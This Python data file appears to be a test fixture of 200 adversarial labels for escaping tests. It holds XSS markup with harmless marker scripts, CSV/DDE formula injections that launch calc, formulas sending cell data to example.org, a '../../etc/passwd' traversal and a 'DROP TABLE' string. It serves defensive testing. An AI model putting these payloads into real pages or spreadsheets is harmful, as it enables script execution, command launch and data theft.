"""Labels that somebody may bring in to break out of a page, a table or a file: 200 of them.

After the OWASP cheat sheets on cross-site scripting and on CSV injection, and names that are merely
unlucky. Every one must stay the text it is.
"""

MARKUP = [
    "<img src=x onerror={0}>", "<svg onload={0}>", "<svg/onload={0}//", "<body onload={0}>",
    "<iframe src=javascript:{0}></iframe>", "<details open ontoggle={0}>", "<video><source onerror={0}>",
    "<input autofocus onfocus={0}>", "<a href=javascript:{0}>x</a>", "<math><mi xlink:href=javascript:{0}>",
    "<object data=javascript:{0}>", "<embed src=javascript:{0}>", "<form action=javascript:{0}><button>",
    "<isindex type=image src=1 onerror={0}>", "<marquee onstart={0}>", "<audio src=x onerror={0}>",
    "<meta http-equiv=refresh content=0;url=javascript:{0}>", "<base href=javascript:{0}//>",
    "<link rel=stylesheet href=javascript:{0}>", "<style>*{{background:url(javascript:{0})}}</style>",
    "<template><script>{0}</script></template>", "<noscript><p title='</noscript><script>{0}</script>'>",
    "<ScRiPt>{0}</ScRiPt>", "<script>{0}</script>", "</script><script>{0}</script>",
    "</title><script>{0}</script>", "</style><script>{0}</script>", "</textarea><script>{0}</script>",
    "<!--<script>{0}</script>", "--><script>{0}</script>", "]]><script>{0}</script>",
    "<![CDATA[<script>{0}</script>]]>", "<?xml version='1.0'?><script>{0}</script>",
    "\"><script>{0}</script>", "'><script>{0}</script>", "\" onmouseover=\"{0}", "' onmouseover='{0}",
    "` onmouseover=`{0}", "x\" autofocus onfocus=\"{0}", "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;img src=x onerror={0}&#62;", "&#x3C;img src=x onerror={0}&#x3E;", "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "\\x3cscript\\x3e{0}\\x3c/script\\x3e",
    "javascript:{0}", "JaVaScRiPt:{0}", "data:text/html,<script>{0}</script>", "vbscript:{0}",
    "${{{0}}}", "{{{{{0}}}}}", "<%= {0} %>", "#{{{0}}}", "';{0};//", "\";{0};//", "`;{0};//", "*/{0}/*",
    "</td></tr></table><script>{0}</script>", "</option></select><img src=x onerror={0}>",
    "<select><option><img src=x onerror={0}>",
]
SCRIPTS = ["globalThis.broken=1", "top['bro'+'ken']=1"]

FORMULAS = [
    "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://example.org/?\"&A1,\"x\")", "=IMPORTXML(\"http://e.org\",\"//a\")",
    "=WEBSERVICE(\"http://example.org/\"&A2)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=SUM(1,1)*cmd|' /C calc'!A0",
    "+1+1", "+cmd|'/C calc'!A0", "-1+1", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)", "@SUM(1+9)*cmd|' /C calc'!A0",
    "%0A=1+1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=\"\"\"&A1", "=1,\"2\";3", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "|calc", "=@A1", "==1", "=-1", "+-1", "-+1", "='x'!A1", "={1;2}", "=A1\nB", "\",=1+1", "',=1+1", ";=1+1",
]

TEXTS = [
    "", " ", "\"", "'", "\\", "`", "\"\"", "''", "a,b", "a;b", "a\tb", "a\nb", "a\r\nb", "{value|rich}",
    "{a|b}{c|d}", "%s%s%n", "\u2028line", "\u2029paragraph", "\u202eright to left", "\u200bzero width",
    "\u0000null".replace("\u0000", "\u0001"), "\u0007bell", "\u001besc", "\ufeffmark", "e\u0301", "\U0001f680",
    "null", "undefined", "NaN", "true", "constructor", "__proto__", "toString", "hasOwnProperty", "0", "-0",
    "1e309", "0x1f", "000123", "1/2/2026", "../../etc/passwd", "C:\\CON", "NUL", "a" * 300, "中文标签",
    "Ω≈ç√∫", "ﷺ", "DROP TABLE reps;--",
]

LABELS = [form.format(script) for script in SCRIPTS for form in MARKUP] + FORMULAS + TEXTS
